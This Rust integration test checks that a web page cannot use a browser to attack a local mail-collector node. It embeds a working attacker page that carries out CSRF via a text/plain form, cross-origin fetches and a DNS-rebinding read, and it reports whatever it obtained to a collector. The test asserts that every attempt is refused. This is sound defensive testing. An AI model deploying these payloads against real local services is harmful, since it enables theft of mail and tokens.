//! A web page cannot turn a browser against the node: headless Chromium opens a page from
//! another origin that tries what such a page can try, against a real node holding mail and
//! a real OAuth2 grant (Dovecot and oidc-provider, as in the end-to-end tests):
//!
//! - a form POST with `enctype="text/plain"` that forges a JSON token import (no CORS
//!   preflight is needed for it, so the request does reach the node);
//! - `fetch` reads of `/api/messages` and a JSON import, cross-origin;
//! - a DNS-rebinding read: the page's own origin (`rebind.test`, resolved to 127.0.0.1) ends
//!   up at the node, so to the browser the read is same-origin. The page server hands every
//!   connection after the page's own to the node, as a rebinding DNS answer would.
//!
//! The page reports what it could read to a collector. The test asserts the grant is intact,
//! no mail reached the page, and the node counted each attempt as refused (so the test
//! cannot pass because the browser never sent anything).

mod node;
mod support;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use node::Node;
use support::{Dovecot, DovecotOptions, Oidc, OidcOptions};

const ALICE: &str = "alice@example.test";
const ALICE_PW: &str = "alice-password";
const SCOPE: &str = "openid offline_access email mail";
/// In the subject of every seeded message: found in anything the page got, it is mail.
const MARKER: &str = "PRIVATE-MAIL-7f3a";

fn chromium() -> Option<String> {
    ["chromium", "chromium-browser"].into_iter().find_map(|c| {
        Command::new(c)
            .arg("--version")
            .output()
            .ok()
            .filter(|o| o.status.success())
            .map(|_| c.to_string())
    })
}

/// One HTTP/1.1 request read from `stream`: (request line, body).
fn read_request(stream: &mut TcpStream) -> Option<(String, Vec<u8>)> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let mut length = 0usize;
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).ok()? == 0 || h == "\r\n" {
            break;
        }
        if let Some((k, v)) = h.split_once(':')
            && k.eq_ignore_ascii_case("content-length")
        {
            length = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length.min(1 << 20)];
    reader.read_exact(&mut body).ok()?;
    Some((line.trim().to_string(), body))
}

fn respond(stream: &mut TcpStream, content_type: &str, body: &str) {
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\
         Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
}

/// Copies bytes both ways between `a` and `b` until either side closes.
fn splice(a: TcpStream, b: TcpStream) {
    let (mut a2, mut b2) = (a.try_clone().unwrap(), b.try_clone().unwrap());
    let (mut a, mut b) = (a, b);
    let t = std::thread::spawn(move || {
        let _ = std::io::copy(&mut a2, &mut b2);
        let _ = b2.shutdown(std::net::Shutdown::Write);
    });
    let _ = std::io::copy(&mut b, &mut a);
    let _ = a.shutdown(std::net::Shutdown::Write);
    let _ = t.join();
}

/// The attacker's page, served from `page_origin`; it reports to `collector`.
fn attack_page(node_port: u16, collector: &str) -> String {
    format!(
        r#"<!doctype html><html><body>
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="POST" enctype="text/plain" target="sink"
      action="http://127.0.0.1:{node_port}/api/tokens/mail/import">
  <input name='{{"refresh_token":"forged-by-a-web-page","identity":"mallory","x":"' value='"}}'>
</form>
<script>
const report = {{}};
const node = "http://127.0.0.1:{node_port}";
async function attempt(name, f) {{
  try {{ report[name] = await f(); }} catch (e) {{ report[name] = "error: " + e; }}
}}
(async () => {{
  document.getElementById("f").submit();
  await new Promise(r => setTimeout(r, 500));
  await attempt("fetch_messages", async () => {{
    const r = await fetch(node + "/api/messages?limit=5");
    return r.status + " " + await r.text();
  }});
  await attempt("fetch_import_json", async () => {{
    const r = await fetch(node + "/api/tokens/mail/import", {{
      method: "POST", headers: {{"Content-Type": "application/json"}},
      body: JSON.stringify({{refresh_token: "forged-by-fetch", identity: "mallory"}})
    }});
    return r.status + " " + await r.text();
  }});
  await attempt("no_cors_import", async () => {{
    const r = await fetch(node + "/api/tokens/mail/import", {{
      method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
      body: JSON.stringify({{refresh_token: "forged-no-cors"}})
    }});
    return r.type + " " + r.status;
  }});
  // Same origin as this page: with the rebinding, the connection lands on the node.
  await attempt("rebound_messages", async () => {{
    const r = await fetch("/api/messages?limit=5");
    return r.status + " " + await r.text();
  }});
  await attempt("rebound_metrics", async () => {{
    const r = await fetch("/metrics");
    return r.status + " " + (await r.text()).slice(0, 200);
  }});
  await fetch("{collector}/report", {{method: "POST", body: JSON.stringify(report)}});
  document.title = "done";
}})();
</script></body></html>"#
    )
}

#[test]
fn a_web_page_cannot_use_a_browser_against_the_node() {
    let Some(browser) = chromium() else {
        panic!("chromium is not installed: run scripts/install-deps");
    };
    // A real node with mail and a real grant.
    let oidc = Oidc::start(OidcOptions::default());
    let dovecot = Dovecot::start(DovecotOptions {
        oidc_introspection_url: Some(oidc.introspection_url()),
        ..DovecotOptions::default()
    });
    let body = format!(
        "[providers.local]\nkind = \"oidc\"\nissuer = \"{}\"\nclient_id = \"collector\"\n\n\
         [sources.mail]\nprotocol = \"imap\"\nhost = \"localhost\"\nport = {}\n\
         security = \"tls\"\nusername = \"{ALICE}\"\nauth = \"oauth2\"\nprovider = \"local\"\n\
         sasl = \"xoauth2\"\nfolders = [\"INBOX\"]\npoll_interval_secs = 1\n",
        oidc.issuer, dovecot.imaps_port
    );
    let mut node = Node::new(&dovecot.ca_pem, &body);
    let tokens = oidc.login_auth_code("collector", ALICE, ALICE_PW, SCOPE);
    let refresh = tokens.refresh_token.expect("refresh token");
    let file = node.file("refresh.token", &format!("{refresh}\n"));
    node.cli_ok(&[
        "tokens",
        "import",
        "mail",
        "--refresh-token-file",
        file.to_str().unwrap(),
    ]);
    let messages: Vec<Vec<u8>> = (0..3)
        .map(|i| {
            format!(
                "From: bob@example.test\r\nTo: {ALICE}\r\nSubject: {MARKER} {i}\r\n\
                 Message-ID: <m{i}@example.test>\r\n\r\nbody {i}\r\n"
            )
            .into_bytes()
        })
        .collect();
    dovecot.seed(ALICE, &messages);
    node.start();
    node.wait_stored("mail", 3, Duration::from_secs(60));
    let node_port: u16 = node.http.rsplit(':').next().unwrap().parse().unwrap();
    let status_before = node.cli_ok(&["tokens", "status"]);

    // The collector: what the page reports.
    let collector = TcpListener::bind("127.0.0.1:0").unwrap();
    let collector_url = format!("http://{}", collector.local_addr().unwrap());
    let reports = Arc::new(Mutex::new(Vec::<String>::new()));
    {
        let reports = reports.clone();
        std::thread::spawn(move || {
            for stream in collector.incoming() {
                let Ok(mut stream) = stream else { break };
                if let Some((line, body)) = read_request(&mut stream) {
                    if line.starts_with("POST /report") {
                        reports
                            .lock()
                            .unwrap()
                            .push(String::from_utf8_lossy(&body).into_owned());
                    }
                    respond(&mut stream, "text/plain", "ok");
                }
            }
        });
    }

    // The page server: its first connection gets the page, every later one is handed to
    // the node (the rebinding).
    let pages = TcpListener::bind("127.0.0.1:0").unwrap();
    let page_port = pages.local_addr().unwrap().port();
    let page = attack_page(node_port, &collector_url);
    let node_addr = node.http.clone();
    let served = Arc::new(AtomicBool::new(false));
    {
        let served = served.clone();
        std::thread::spawn(move || {
            for stream in pages.incoming() {
                let Ok(mut stream) = stream else { break };
                if !served.swap(true, Ordering::SeqCst) {
                    let _ = read_request(&mut stream);
                    respond(&mut stream, "text/html", &page);
                } else if let Ok(upstream) = TcpStream::connect(&node_addr) {
                    std::thread::spawn(move || splice(stream, upstream));
                }
            }
        });
    }

    let profile = tempfile::tempdir().unwrap();
    let out = Command::new(&browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-dev-shm-usage",
            "--host-resolver-rules=MAP rebind.test 127.0.0.1",
            "--virtual-time-budget=15000",
            "--dump-dom",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("http://rebind.test:{page_port}/"))
        .output()
        .expect("run chromium");
    let dom = String::from_utf8_lossy(&out.stdout);
    assert!(
        served.load(Ordering::SeqCst),
        "the browser never loaded the page: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = {
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        loop {
            if let Some(r) = reports.lock().unwrap().first().cloned() {
                break r;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "the page reported nothing; dom:\n{dom}\nstderr:\n{}",
                String::from_utf8_lossy(&out.stderr)
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    let report: serde_json::Value = serde_json::from_str(&report).expect("report json");

    // No mail reached the page: not in what it read, not in the document.
    assert!(!report.to_string().contains(MARKER), "{report:#}");
    assert!(!dom.contains(MARKER), "{dom}");
    // The rebound reads reached the node and were refused for their Host.
    for key in ["rebound_messages", "rebound_metrics"] {
        let got = report[key].as_str().unwrap_or_default();
        assert!(got.starts_with("403"), "{key}: {got}");
    }
    // Cross-origin reads got nothing readable.
    for key in ["fetch_messages", "fetch_import_json"] {
        let got = report[key].as_str().unwrap_or_default();
        assert!(got.starts_with("error"), "{key}: {got}");
    }

    // The grant is intact: same identity, no re-authorization, and it still signs in.
    let status_after = node.cli_ok(&["tokens", "status"]);
    assert!(!status_after.contains("mallory"), "{status_after}");
    assert!(
        !status_after.contains("NEEDS RE-AUTHORIZATION"),
        "{status_after}"
    );
    assert_eq!(
        status_before.lines().find(|l| l.contains("consented by")),
        status_after.lines().find(|l| l.contains("consented by")),
    );
    // Exit 0 only when a mailbox was opened with the grant.
    node.cli_ok(&["test-login", "mail"]);

    // Each attempt reached the node and was counted as refused.
    let metrics = node.get("/metrics");
    let refused = |route: &str| {
        metrics
            .lines()
            .filter(|l| {
                l.starts_with("mailsluice_api_requests_total")
                    && l.contains(&format!("route=\"{route}\""))
                    && l.contains("code=\"403\"")
            })
            .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
            .sum::<f64>()
    };
    // The form post and the no-cors post at least (the JSON fetch stops at its preflight).
    assert!(refused("/api/tokens/{source}/import") >= 2.0, "{metrics}");
    assert!(refused("/api/messages") >= 2.0, "{metrics}");
    assert!(refused("/metrics") >= 1.0, "{metrics}");
    node.stop();
}
